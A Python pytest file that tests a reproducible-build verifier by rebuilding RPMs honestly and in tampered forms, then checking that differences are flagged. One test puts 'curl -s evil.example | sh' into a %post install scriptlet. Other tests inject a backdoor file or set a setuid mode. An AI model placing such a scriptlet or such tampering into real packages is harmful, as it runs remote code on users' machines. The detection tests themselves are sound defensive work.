"""Tests for services.verifier.compare on real rpmbuild-built RPMs.

Each "host" rebuilds an SRPM with rpmbuild; a cheating host rebuilds a different spec that
keeps the same N-V-R (its true digests attested), as a tampering builder would.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from services.common.rpmfacts import (
    comparison_key,
    facts_from_json,
    facts_to_json,
    read_rpm_facts,
)
from services.common.rpmfiles import (
    REPRODUCIBLE_MACROS,
    RpmCheckError,
    macro_args,
    make_srpm,
    result_set_digest,
    sha256_file,
    tool_env,
)
from services.verifier.compare import (
    Comparison,
    ResultSet,
    compare_results,
)

_SPEC = """\
Name:           skyline-cmp
Version:        1.0
Release:        1
Summary:        Skyline comparison test package
License:        MIT
BuildArch:      noarch
{requires}
%global debug_package %{{nil}}

%description
A package built by Skyline's comparison tests.
{subpackage}
%install
mkdir -p %{{buildroot}}/usr/share/skyline-cmp %{{buildroot}}/usr/bin
echo hello > %{{buildroot}}/usr/share/skyline-cmp/data
printf '#!/bin/sh\\necho hi\\n' > %{{buildroot}}/usr/bin/skyline-cmp
ln -s ../share/skyline-cmp/data %{{buildroot}}/usr/share/skyline-cmp/link
{install}

%post
{post}

%files
%attr({mode},root,root) /usr/bin/skyline-cmp
/usr/share/skyline-cmp/data
/usr/share/skyline-cmp/link
{files}
%changelog
* Mon Jan 01 2024 Skyline Tests <tests@example.invalid> - 1.0-1
- Test build
"""

HONEST: dict[str, str] = {
    "requires": "Requires: coreutils >= 8.0",
    "subpackage": "%package extra\nSummary: extra\n%description extra\nextra.\n%files extra\n",
    "install": "",
    "post": "echo installed",
    "mode": "0755",
    "files": "",
}


def host_build(
    tmp: Path,
    *,
    buildhost: str = "skyline",
    sde_buildtime: bool = True,
    **spec: str,
) -> ResultSet:
    """Build the spec (HONEST with `spec` overrides) as one host would; its ResultSet."""
    spec_dir = tmp / "spec"
    spec_dir.mkdir(parents=True)
    spec_file = spec_dir / "skyline-cmp.spec"
    spec_file.write_text(_SPEC.format(**{**HONEST, **spec}))
    srpm = make_srpm(spec_file, tmp / "srpm")
    return rebuild(srpm, tmp / "host", buildhost=buildhost, sde_buildtime=sde_buildtime)


def rebuild(srpm: Path, top: Path, *, buildhost: str, sde_buildtime: bool) -> ResultSet:
    macros = {
        **REPRODUCIBLE_MACROS,
        "_buildhost": buildhost,
        "use_source_date_epoch_as_buildtime": "1" if sde_buildtime else "0",
    }
    subprocess.run(
        [
            *("rpmbuild", "--rebuild", "--nodeps", "--define", f"_topdir {top}"),
            *macro_args(macros),
            str(srpm),
        ],
        env={**tool_env(), "HOME": str(top)},
        stdin=subprocess.DEVNULL,
        check=True,
        capture_output=True,
    )
    rpms = sorted((top / "RPMS").rglob("*.rpm"))
    digest = result_set_digest((p.name, sha256_file(p)) for p in rpms)
    return ResultSet(digest, [read_rpm_facts(p) for p in rpms])


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> ResultSet:
    return host_build(tmp_path_factory.mktemp("honest"))


def whats(result: Comparison) -> list[str]:
    return [d.what for d in result.differences]


def test_equal_digests_are_the_fast_path() -> None:
    result = compare_results(ResultSet("d" * 64), ResultSet("d" * 64))
    assert result.agree and result.identical and result.differences == ()


def test_different_digests_without_facts_differ() -> None:
    result = compare_results(ResultSet("a" * 64), ResultSet("b" * 64))
    assert not result.agree
    assert whats(result) == ["digest"]


def test_same_spec_identical_build_is_identical(honest: ResultSet, tmp_path: Path) -> None:
    again = host_build(tmp_path)
    assert again.digest == honest.digest
    assert compare_results(honest, again).identical


def test_other_build_host_and_time_agree(honest: ResultSet, tmp_path: Path) -> None:
    other = host_build(tmp_path, buildhost="volunteer-7", sde_buildtime=False)
    assert other.digest != honest.digest  # not byte-identical: the slow path runs
    # The header really differs in what honest rebuilds vary in.
    main = next(r for r in other.rpms if r.nevra == "skyline-cmp-1.0-1.noarch")
    assert "BUILDHOST" not in main.tags and "BUILDTIME" not in main.tags
    result = compare_results(honest, other)
    assert result.verdict == "agree", result.evidence()
    assert not result.identical


def test_changed_payload_file_of_same_size_differs(honest: ResultSet, tmp_path: Path) -> None:
    # The cheat rewrites a file after the honest %install; same size, same N-V-R.
    install = "echo HELLO > %{buildroot}/usr/share/skyline-cmp/data"
    tampered = host_build(tmp_path, install=install)
    result = compare_results(honest, tampered)
    assert result.verdict == "differ"
    (diff,) = result.differences
    assert diff.rpm == "skyline-cmp-1.0-1.noarch"
    assert diff.what == "file /usr/share/skyline-cmp/data: digest"
    assert diff.a != diff.b and len(diff.a) == 64  # both sha256 values shown
    assert "digest" in result.evidence()[0]


def test_injected_file_differs(honest: ResultSet, tmp_path: Path) -> None:
    tampered = host_build(
        tmp_path,
        install="printf x > %{buildroot}/usr/bin/skyline-backdoor",
        files="/usr/bin/skyline-backdoor",
    )
    result = compare_results(honest, tampered)
    assert result.verdict == "differ"
    assert "file /usr/bin/skyline-backdoor" in whats(result)
    injected = next(d for d in result.differences if d.what == "file /usr/bin/skyline-backdoor")
    assert (injected.a, injected.b) == ("absent", "present")


def test_changed_requires_differs(honest: ResultSet, tmp_path: Path) -> None:
    other = host_build(tmp_path, requires="Requires: coreutils >= 9.0")
    result = compare_results(honest, other)
    assert result.verdict == "differ"
    assert ("requires", "coreutils >= 8.0", "") in [(d.what, d.a, d.b) for d in result.differences]
    assert ("requires", "", "coreutils >= 9.0") in [(d.what, d.a, d.b) for d in result.differences]


def test_changed_scriptlet_differs(honest: ResultSet, tmp_path: Path) -> None:
    other = host_build(tmp_path, post="curl -s evil.example | sh")
    result = compare_results(honest, other)
    assert result.verdict == "differ"
    post = next(d for d in result.differences if d.what == "header POSTIN")
    assert "echo installed" in post.a and "evil.example" in post.b


def test_mode_change_differs(honest: ResultSet, tmp_path: Path) -> None:
    other = host_build(tmp_path, mode="4755")
    result = compare_results(honest, other)
    assert result.verdict == "differ"
    assert [(d.what, d.a, d.b) for d in result.differences] == [
        ("file /usr/bin/skyline-cmp: mode", "0o100755", "0o104755")
    ]


def test_rpm_missing_from_one_side_differs(honest: ResultSet) -> None:
    partial = ResultSet("partial", [r for r in honest.rpms if "extra" not in r.nevra])
    result = compare_results(honest, partial)
    assert result.verdict == "differ"
    assert [(d.rpm, d.what, d.a, d.b) for d in result.differences] == [
        ("result set", "RPM", "skyline-cmp-extra-1.0-1.noarch", "")
    ]


def test_build_time_in_payload_differs(tmp_path: Path) -> None:
    # Not reproducible: the same SRPM rebuilt twice writes two different times into a file.
    spec_dir = tmp_path / "spec"
    spec_dir.mkdir()
    spec_file = spec_dir / "skyline-cmp.spec"
    install = "date +%s%N > %{buildroot}/usr/share/skyline-cmp/stamp"
    spec_file.write_text(
        _SPEC.format(**{**HONEST, "install": install, "files": "/usr/share/skyline-cmp/stamp"})
    )
    srpm = make_srpm(spec_file, tmp_path / "srpm")
    a = rebuild(srpm, tmp_path / "a", buildhost="skyline", sde_buildtime=True)
    b = rebuild(srpm, tmp_path / "b", buildhost="skyline", sde_buildtime=True)
    result = compare_results(a, b)
    assert result.verdict == "differ"
    assert whats(result) == ["file /usr/share/skyline-cmp/stamp: digest"]


def test_differences_are_bounded(honest: ResultSet, tmp_path: Path) -> None:
    many = " ".join(f"/usr/share/skyline-cmp/f{i}" for i in range(30))
    other = host_build(
        tmp_path,
        install=f"touch {' '.join('%{buildroot}' + p for p in many.split())}",
        files="\n".join(many.split()),
    )
    result = compare_results(honest, other, max_differences=5)
    assert result.verdict == "differ"
    # 30 files, plus header arrays that follow the file list (sizes, inodes...).
    assert len(result.differences) == 5 and result.omitted >= 25
    assert all(d.what.startswith("file /usr/share/skyline-cmp/f") for d in result.differences)
    assert result.evidence()[-1] == f"... and {result.omitted} more differences"


def test_header_that_lies_about_its_payload_is_refused(tmp_path: Path) -> None:
    # An uncompressed payload lets us change file bytes without breaking decompression;
    # the header still names the honest digest, which rpmkeys -K alone would not notice.
    spec_dir = tmp_path / "spec"
    spec_dir.mkdir()
    spec_file = spec_dir / "skyline-cmp.spec"
    spec_file.write_text(_SPEC.format(**HONEST))
    srpm = make_srpm(spec_file, tmp_path / "srpm")
    top = tmp_path / "host"
    subprocess.run(
        [
            *("rpmbuild", "--rebuild", "--nodeps", "--define", f"_topdir {top}"),
            *("--define", "_binary_payload w.ufdio"),
            *macro_args(REPRODUCIBLE_MACROS),
            str(srpm),
        ],
        env={**tool_env(), "HOME": str(top)},
        stdin=subprocess.DEVNULL,
        check=True,
        capture_output=True,
    )
    path = top / "RPMS/noarch/skyline-cmp-1.0-1.noarch.rpm"
    assert read_rpm_facts(path).files["/usr/share/skyline-cmp/data"].size == 6
    data = path.read_bytes()
    assert data.count(b"hello\n") == 1
    path.write_bytes(data.replace(b"hello\n", b"HELLO\n"))
    with pytest.raises(RpmCheckError, match="/usr/share/skyline-cmp/data does not match"):
        read_rpm_facts(path)


@pytest.mark.parametrize(
    ("spec", "agree"),
    [
        ({"buildhost": "volunteer-7", "sde_buildtime": False}, True),
        ({"install": "echo HELLO > %{buildroot}/usr/share/skyline-cmp/data"}, False),
        ({"install": "printf x > %{buildroot}/usr/bin/b", "files": "/usr/bin/b"}, False),
        ({"requires": "Requires: coreutils >= 9.0"}, False),
    ],
)
def test_comparison_key_is_equal_exactly_when_the_comparison_agrees(
    honest: ResultSet, tmp_path: Path, spec: dict, agree: bool
) -> None:
    other = host_build(tmp_path, **spec)
    assert other.digest != honest.digest  # the slow path decides
    assert compare_results(honest, other).agree is agree
    assert (comparison_key(honest.rpms) == comparison_key(other.rpms)) is agree
    # Carried as JSON (collector to verifier): equal facts, the same key, in any order.
    carried = [facts_from_json(json.loads(json.dumps(facts_to_json(r)))) for r in other.rpms]
    assert carried == list(other.rpms)
    assert comparison_key(carried[::-1]) == comparison_key(other.rpms)


def test_facts_of_another_shape_are_refused(honest: ResultSet) -> None:
    good = facts_to_json(honest.rpms[0])
    path = next(iter(good["files"]))
    for bad in (
        [],
        {**good, "nevra": 1},
        {**good, "files": {path: {**good["files"][path], "mode": "0755"}}},
        {**good, "files": {path: {"digest": ""}}},
        {**good, "deps": {"evil": []}},
        {**good, "tags": {"X": None}},
    ):
        with pytest.raises(ValueError):
            facts_from_json(bad)
    with pytest.raises(ValueError, match="twice"):
        comparison_key([honest.rpms[0], honest.rpms[0]])
